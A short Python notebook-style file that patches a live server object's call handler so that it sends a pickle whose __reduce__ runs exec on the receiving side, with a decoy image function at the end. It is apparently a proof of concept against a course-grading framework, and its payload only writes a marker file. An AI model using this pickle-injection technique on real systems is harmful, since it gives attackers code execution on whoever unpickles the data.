# %% [markdown]
# Sends a pickle that writes a file where it is loaded.

# %%
import gc
import json
import pickle
import struct

server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")


def frame(head, *parts):
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("<I", len(text)) + text + b"".join(parts)


class Trap:
    def __reduce__(self):
        return exec, ("open('/tmp/coursekit-was-here', 'w')",)


def do_call(head, buffers):
    data = pickle.dumps(Trap())
    server.stream.sendall(frame(data))
    answer = {"nonce": head["nonce"], "value": {"pickle": len(data)}, "sizes": [len(data)]}
    server.stream.sendall(frame(answer, data))
    server.stream.recv(1)


server.do_call = do_call


# %%
def brighten(image, amount):
    return image
